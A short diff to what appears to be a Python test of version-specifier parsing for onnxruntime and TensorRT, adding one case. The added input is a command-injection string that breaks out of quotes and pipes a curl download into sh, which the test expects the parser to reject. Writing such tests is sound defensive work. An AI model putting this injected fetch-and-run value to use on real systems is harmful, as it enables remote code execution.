@@ -241,6 +241,7 @@ def test_tensorrt_without_the_gpu_wheel_is_only_installable() -> None:
         (">=1.27", None),
         (">=1.30", "needs onnxruntime >=1.30, this host has 1.27.0"),
         ("newest", "does not understand"),
+        ("===1'&&curl${IFS}x|sh&&'", "does not understand"),
         (7, "does not understand"),
     ],
 )
